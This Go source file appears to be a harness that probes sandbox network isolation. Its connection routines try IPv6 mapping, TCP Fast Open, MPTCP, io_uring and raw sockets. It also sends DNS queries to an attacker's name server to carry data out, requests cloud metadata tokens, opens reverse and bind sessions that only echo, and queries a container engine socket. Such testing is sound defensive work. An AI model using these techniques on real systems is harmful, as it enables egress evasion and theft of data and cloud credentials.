package main

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

const patience = 2 * time.Second

// opened asks for a socket of a kind, and closes it.
func opened(family, kind, protocol int) deed {
	return func(words []string) error {
		number, err := syscall.Socket(family, kind|syscall.SOCK_CLOEXEC, protocol)
		if err != nil {
			return fmt.Errorf("socket: %w", err)
		}
		syscall.Close(number)
		return hello(words)
	}
}

// A dialler connects to a host over TCP, in one way.
type dialler func(host, port string) (net.Conn, error)

func dial(host, port string) (net.Conn, error) {
	return net.DialTimeout("tcp4", net.JoinHostPort(host, port), patience)
}

// dialMapped connects by an IPv6 socket to an IPv4 address.
func dialMapped(host, port string) (net.Conn, error) {
	address, err := addressOf(host, port)
	if err != nil {
		return nil, err
	}
	mapped := &syscall.SockaddrInet6{Port: address.Port}
	copy(mapped.Addr[:], net.IP(address.Addr[:]).To16())
	return connected(syscall.AF_INET6, 0, func(number int) error { return syscall.Connect(number, mapped) })
}

// dialFast connects with what it sends first (TCP Fast Open), so that connect(2) is not called.
func dialFast(host, port string) (net.Conn, error) {
	address, err := addressOf(host, port)
	if err != nil {
		return nil, err
	}
	return connected(syscall.AF_INET, 0, func(number int) error {
		return syscall.Sendto(number, nil, 0x20000000, address) // MSG_FASTOPEN
	})
}

const multipath = 262 // IPPROTO_MPTCP

func dialMultipath(host, port string) (net.Conn, error) {
	address, err := addressOf(host, port)
	if err != nil {
		return nil, err
	}
	return connected(syscall.AF_INET, multipath, func(number int) error { return syscall.Connect(number, address) })
}

// dialByRing makes and connects the socket in an io_uring.
func dialByRing(host, port string) (net.Conn, error) {
	address, err := addressOf(host, port)
	if err != nil {
		return nil, err
	}
	ring, err := newRing()
	if err != nil {
		return nil, err
	}
	number, err := ring.do(opSocket, syscall.AF_INET, 0, 0, syscall.SOCK_STREAM, 0)
	if err != nil {
		return nil, fmt.Errorf("socket: %w", err)
	}
	raw := make([]byte, 16)
	binary.NativeEndian.PutUint16(raw, syscall.AF_INET)
	binary.BigEndian.PutUint16(raw[2:], uint16(address.Port))
	copy(raw[4:], address.Addr[:])
	if _, err := ring.do(opConnect, number, given(raw), 0, uint64(len(raw)), 0); err != nil {
		return nil, fmt.Errorf("connect: %w", err)
	}
	return connectionOf(int(number))
}

func addressOf(host, port string) (*syscall.SockaddrInet4, error) {
	number, err := strconv.Atoi(port)
	ip := net.ParseIP(host).To4()
	if err != nil || ip == nil {
		return nil, fmt.Errorf("no address: %s:%s", host, port)
	}
	address := &syscall.SockaddrInet4{Port: number}
	copy(address.Addr[:], ip)
	return address, nil
}

func connected(family, protocol int, connect func(number int) error) (net.Conn, error) {
	number, err := syscall.Socket(family, syscall.SOCK_STREAM|syscall.SOCK_CLOEXEC, protocol)
	if err != nil {
		return nil, fmt.Errorf("socket: %w", err)
	}
	limit := syscall.NsecToTimeval(int64(patience))
	syscall.SetsockoptTimeval(number, syscall.SOL_SOCKET, syscall.SO_SNDTIMEO, &limit)
	if err := connect(number); err != nil {
		syscall.Close(number)
		return nil, fmt.Errorf("connect: %w", err)
	}
	return connectionOf(number)
}

func connectionOf(number int) (net.Conn, error) {
	file := os.NewFile(uintptr(number), "connection")
	defer file.Close()
	return net.FileConn(file)
}

// send HOST PORT A B
func send(way dialler) deed {
	return func(words []string) error {
		connection, err := way(words[0], words[1])
		if err != nil {
			return err
		}
		defer connection.Close()
		_, err = io.WriteString(connection, words[2]+words[3]+"\n")
		return err
	}
}

// askName HOST PORT A B: a question to a name server of the attacker's (RFC 1035, section 4.1), which is how data leaves. Whether it
// arrives, only the other side knows.
func askName(way func(host, port string, question []byte) error) deed {
	return func(words []string) error {
		label := words[2] + words[3]
		question := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, byte(len(label))}
		question = append(append(question, label...), 0, 0, 1, 0, 1)
		if err := way(words[0], words[1], question); err != nil {
			return err
		}
		return errSent
	}
}

func sendConnected(host, port string, question []byte) error {
	connection, err := net.DialTimeout("udp4", net.JoinHostPort(host, port), patience)
	if err != nil {
		return err
	}
	defer connection.Close()
	_, err = connection.Write(question)
	return err
}

func sendUnconnected(host, port string, question []byte) error {
	address, err := addressOf(host, port)
	if err != nil {
		return err
	}
	return sentTo(syscall.AF_INET, syscall.SOCK_DGRAM, 0, question, address)
}

func sendMapped(host, port string, question []byte) error {
	address, err := addressOf(host, port)
	if err != nil {
		return err
	}
	mapped := &syscall.SockaddrInet6{Port: address.Port}
	copy(mapped.Addr[:], net.IP(address.Addr[:]).To16())
	return sentTo(syscall.AF_INET6, syscall.SOCK_DGRAM, 0, question, mapped)
}

// sendRaw makes the datagram by itself (RFC 768), for a raw socket. The sum 0 means that there is none.
func sendRaw(host, port string, question []byte) error {
	address, err := addressOf(host, port)
	if err != nil {
		return err
	}
	datagram := binary.BigEndian.AppendUint16(nil, 40053)
	datagram = binary.BigEndian.AppendUint16(datagram, uint16(address.Port))
	datagram = binary.BigEndian.AppendUint16(datagram, uint16(8+len(question)))
	datagram = append(append(datagram, 0, 0), question...)
	return sentTo(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_UDP, datagram, &syscall.SockaddrInet4{Addr: address.Addr})
}

func sentTo(family, kind, protocol int, data []byte, address syscall.Sockaddr) error {
	number, err := syscall.Socket(family, kind|syscall.SOCK_CLOEXEC, protocol)
	if err != nil {
		return fmt.Errorf("socket: %w", err)
	}
	defer syscall.Close(number)
	if err := syscall.Sendto(number, data, 0, address); err != nil {
		return fmt.Errorf("sendto: %w", err)
	}
	return nil
}

const plain = "GET %s HTTP/1.0\r\nHost: %s\r\nMetadata-Flavor: Google\r\nMetadata: true\r\n\r\n"

// withToken asks for a token first, as the second version of a cloud's metadata service wants it.
const withToken = "PUT /latest/api/token HTTP/1.0\r\nHost: %s\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n"

// get HOST PORT PATH: a request over TCP, without a tool.
func get(way dialler, request string) deed {
	return func(words []string) error {
		token := ""
		if request == withToken {
			said, err := asked(way, words, fmt.Sprintf(withToken, words[0]))
			if err != nil {
				return err
			}
			_, token, _ = strings.Cut(string(said), "\r\n\r\n")
		}
		question := fmt.Sprintf(plain, words[2], words[0])
		if token != "" {
			question = strings.Replace(question, "\r\n", "\r\nX-aws-ec2-metadata-token: "+strings.TrimSpace(token)+"\r\n", 1)
		}
		said, err := asked(way, words, question)
		os.Stdout.Write(said)
		if err == nil && len(said) == 0 {
			err = errors.New("no answer")
		}
		return err
	}
}

func asked(way dialler, words []string, question string) ([]byte, error) {
	connection, err := way(words[0], words[1])
	if err != nil {
		return nil, err
	}
	defer connection.Close()
	connection.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(connection, question); err != nil {
		return nil, err
	}
	return io.ReadAll(io.LimitReader(connection, mostOutput))
}

// reverse HOST PORT: a session from inside out. Orders are obeyed by this program itself: an image without a shell is no wall.
func reverse(way dialler) deed {
	return func(words []string) error {
		connection, err := way(words[0], words[1])
		if err != nil {
			return err
		}
		return serve(connection)
	}
}

// bind PORT: the same from outside in.
func bind(network string, paths bool) deed {
	return func(words []string) error {
		listener, err := listening(network, words[0], paths)
		if err != nil {
			return err
		}
		for {
			connection, err := listener.Accept()
			if err != nil {
				return err
			}
			go serve(connection)
		}
	}
}

func listening(network, port string, paths bool) (net.Listener, error) {
	if !paths {
		host := map[string]string{"tcp4": "", "tcp6": "[::]"}[network]
		if network == "tcp6" {
			network = "tcp" // which takes what comes by IPv4 too
		}
		return net.Listen(network, host+":"+port)
	}
	address, err := addressOf("0.0.0.0", port)
	if err != nil {
		return nil, err
	}
	number, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM|syscall.SOCK_CLOEXEC, multipath)
	if err != nil {
		return nil, fmt.Errorf("socket: %w", err)
	}
	syscall.SetsockoptInt(number, syscall.SOL_SOCKET, syscall.SO_REUSEADDR, 1)
	if err := syscall.Bind(number, address); err != nil {
		return nil, fmt.Errorf("bind: %w", err)
	}
	if err := syscall.Listen(number, 8); err != nil {
		return nil, fmt.Errorf("listen: %w", err)
	}
	file := os.NewFile(uintptr(number), "listener")
	defer file.Close()
	return net.FileListener(file)
}

func serve(connection net.Conn) error {
	defer connection.Close()
	connection.SetDeadline(time.Now().Add(2 * patience))
	for lines := bufio.NewScanner(connection); lines.Scan(); {
		if said, is := strings.CutPrefix(lines.Text(), "echo "); is {
			fmt.Fprintln(connection, strings.ReplaceAll(said, "''", ""))
		}
	}
	return nil
}

// unixSocket PATH A B: a request to the engine.
func unixSocket(root string) deed {
	return func(words []string) error {
		connection, err := net.DialTimeout("unix", root+words[0], patience)
		if err != nil {
			return err
		}
		defer connection.Close()
		connection.SetDeadline(time.Now().Add(patience))
		fmt.Fprintf(connection, "GET /%s%s HTTP/1.0\r\n\r\n", words[1], words[2])
		_, err = io.Copy(os.Stdout, connection)
		return err
	}
}
